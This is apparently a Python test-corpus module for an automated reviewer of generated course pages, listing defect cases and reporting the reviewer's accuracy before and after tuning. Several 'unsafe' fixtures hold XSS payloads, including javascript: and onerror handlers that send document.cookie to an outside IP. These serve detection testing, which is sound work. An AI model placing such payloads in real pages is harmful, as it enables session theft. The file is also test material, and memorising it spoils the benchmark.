"""G: a blind batch, written without reading the review's rules or earlier cases' texts; held back
at first, then tuned on (see "After first sight" below).

Written by a helper that read only the corpus harness and model (review_model.py, build.py,
review_bases.py, bench/review_accuracy.py) and the case format at the top of review_cases_f.py;
no file under coursewright/guardrails/ was opened. Seven new bases (review_bases_g.py: nursing,
contract law, cooking, welding, personal finance, music theory, consumer law) join the old ones.
88 courses: 22 chatter (review_cases_g_chatter.py), 24 placeholder (review_cases_g_placeholder.py),
4 length and 9 structure/safety (here), 29 tricky-but-fine (review_cases_g_fine.py).

Run ONCE, blind (then `python bench/review_accuracy.py --part "held-back G"`, every course built
through the full MCP client), before any rule saw it. First-sight figures (history):
    empty 3/3, ungradable 2/2, unsafe 4/4 (structure+safety 100%)
    chatter 14/22 (63.6%), placeholder 14/24 (58.3%), length 4/4; prose 32/50 (64.0%)
    fine courses passing 29/29 (100%); unreadable study time reported 1/1
    (create_task refused 8 of the briefs; those tasks were stored directly, as the harness does)
No label was changed after the run. Misses at first sight (no finding at all unless noted):
    chatter_absolutely_revised_en: "Absolutely — below is a revised version of the ... unit, now with ..."
    chatter_offer_to_adapt_jurisdiction: closing "Happy to adapt these examples to Scots law too if ..."
    chatter_note_to_you_mid_page: "(A note for you: I wasn't sure whether your team has XLOOKUP ...)"
    chatter_offer_checklist_in_ai_course: "I can also produce a one-page checklist version ... just say the word."
    chatter_change_log_opening: "Certainly. Changes in this version: a shorter introduction, ..." (only ~length_mismatch)
    chatter_zusatzaufgaben_angebot: "Falls Sie ... noch Zusatzaufgaben brauchen, erstelle ich Ihnen gern ein paar."
    chatter_avisame_version: "Nota: no sé qué versión de Excel usa tu equipo, ... Avísame si es otra y lo cambio."
    chatter_observacao_para_revisor: "Observação para quem for revisar: não consegui confirmar ... vale checar ..."
    placeholder_case_name_year: "In [case name, year] the court held ..."
    placeholder_audio_marker: "[AUDIO: major third then minor third, piano, 4 seconds each]" (only ~length_mismatch)
    placeholder_sed_ut_perspiciatis: "Sed ut perspiciatis unde omnis iste natus error ..." (only ~length_mismatch)
    placeholder_extract_still_to_choose: "Source B: [extract still to be chosen — ask the department]."
    placeholder_hash_extension: "call the safety desk on extension ####."
    placeholder_paragraph_goes_here: "(Paragraph on the company values goes here.)"
    placeholder_foto_einfuegen: "Hier Foto vom Versuchsaufbau einfügen."
    placeholder_temps_a_completer: "Temps de cuisson : à compléter."
    placeholder_pendiente_tabla: "[PENDIENTE: tabla comparativa de tres préstamos]"
    placeholder_pegar_aqui: "(Pegar aquí el fragmento del discurso del 13 de octubre de 1931.)"
The ~length_mismatch warnings shown are all on music_theory courses ("Twenty minutes a day, five days
a week, for six weeks", 10 units, about one unit per hour): a warning only, it blocks nothing.

After first sight the batch was tuned on: its misses were read as classes (chatter addressed to the
requester without "you asked"; placeholders without slot syntax), general rules were written for each
class in every language against new tuned cases of their own (tests/corpus/review_cases_requester.py
and the tuned placeholder cases), and only then was G run again. It is reported as
"G (tuned after first sight)", apart from the held-back batches, and tests/test_review_corpus.py holds
it to what it reaches now: every defect caught except those in MISSED_AFTER_TUNING, every fine course passing.
After tuning (bench/review_accuracy.py --part G): chatter 22/22, placeholder 24/24, length 4/4 (prose 50/50),
structure+safety 9/9, fine 29/29; the music-theory base no longer warns length_mismatch (its "twenty minutes a
day, five days a week, for six weeks" is read as 10 hours, not 35).
"""

from __future__ import annotations

from corpus.review_bases_g import g_defect as _defect
from corpus.review_cases_g_chatter import CHATTER_G
from corpus.review_cases_g_fine import FINE_G
from corpus.review_cases_g_placeholder import PLACEHOLDER_G
from corpus.review_model import Page, Unit, raw

_LENGTH: list = [
    _defect("hb7_length_eight_hours_forty_units", "nursing_meds", "length", size=40),
    _defect("hb7_length_ten_hours_two_units", "contract_law", "length", size=2),
    _defect("hb7_length_diez_horas_48_unidades", "es_finanzas", "length", size=48),
    _defect(
        "hb7_length_forty_minutes_ten_units",
        "music_theory",
        "length",
        audience_override="Adults learning an instrument; fluent English. Ten minutes a week for a month.",
    ),
]

_STRUCTURE_AND_SAFETY: list = [
    _defect(
        "hb7_unsafe_javascript_href",
        "music_theory",
        "unsafe",
        raw(
            "Answers",
            "<h3>Answers</h3><p><a href=\"javascript:document.location='http://203.0.113.9/?c='+document.cookie\">"
            "Show the answers</a></p>",
        ),
    ),
    _defect(
        "hb7_unsafe_img_onerror",
        "nursing_meds",
        "unsafe",
        raw(
            "Chart example",
            '<h3>A drug chart</h3><img src="chart.png" onerror="fetch(\'//203.0.113.9/\'+document.cookie)">'
            "<p>Find the unsigned entry on this chart.</p>",
        ),
    ),
    _defect(
        "hb7_unsafe_external_script",
        "fr_cuisine",
        "unsafe",
        raw(
            "Vidéo HACCP",
            '<h3>Les températures</h3><p>Froid positif : 0 à 4 °C.</p><script src="https://cdn.example.net/t.js">'
            "</script>",
        ),
    ),
    _defect(
        "hb7_unsafe_svg_onload",
        "de_schweissen",
        "unsafe",
        raw(
            "Nahtfehler",
            '<h3>Nahtfehler</h3><svg onload="alert(document.domain)"><circle r="10"/></svg><p>Poren entstehen '
            "bei zu wenig Schutzgas.</p>",
        ),
    ),
    _defect(
        "hb7_ungradable_no_correct_choice",
        "contract_law",
        "ungradable",
        raw(
            "Quiz: terms",
            "<problem><multiplechoiceresponse><p>Breach of which term lets the other side end the contract?</p>"
            '<choicegroup type="MultipleChoice"><choice correct="false">A warranty</choice><choice correct="false">'
            "A condition</choice></choicegroup></multiplechoiceresponse></problem>",
        ),
    ),
    _defect(
        "hb7_ungradable_numerical_without_answer",
        "es_finanzas",
        "ungradable",
        raw(
            "Cálculo del neto",
            "<problem><numericalresponse><p>Bruto: 1.800 €; retenciones: 15 %. ¿Cuál es el neto?</p>"
            "<formulaequationinput/></numericalresponse></problem>",
        ),
    ),
    _defect("hb7_empty_unit_without_components", "pt_consumidor", "empty", Unit("Prazos de reclamação", ())),
    _defect(
        "hb7_empty_video_without_url",
        "de_schweissen",
        "empty",
        Unit("Demo: Kehlnaht", (Page(video="", title="Kehlnaht in Position PB"),)),
    ),
    _defect(
        "hb7_empty_whitespace_only_page",
        "music_theory",
        "empty",
        raw("Listening 2", "<p>&nbsp;</p>\n<p> </p>"),
    ),
]

#: The defects the review missed at the batch's single blind run (names as in the docstring, with hb7_).
FIRST_SIGHT_MISSES = frozenset(
    "hb7_" + name
    for name in (
        "chatter_absolutely_revised_en",
        "chatter_offer_to_adapt_jurisdiction",
        "chatter_note_to_you_mid_page",
        "chatter_offer_checklist_in_ai_course",
        "chatter_change_log_opening",
        "chatter_zusatzaufgaben_angebot",
        "chatter_avisame_version",
        "chatter_observacao_para_revisor",
        "placeholder_case_name_year",
        "placeholder_audio_marker",
        "placeholder_sed_ut_perspiciatis",
        "placeholder_extract_still_to_choose",
        "placeholder_hash_extension",
        "placeholder_paragraph_goes_here",
        "placeholder_foto_einfuegen",
        "placeholder_temps_a_completer",
        "placeholder_pendiente_tabla",
        "placeholder_pegar_aqui",
    )
)

#: The defects the tuned rules still miss (none since the placeholder rules in guardrails/drafts.py).
MISSED_AFTER_TUNING: frozenset[str] = frozenset()

HELD_BACK_G = CHATTER_G + PLACEHOLDER_G + _LENGTH + _STRUCTURE_AND_SAFETY + FINE_G
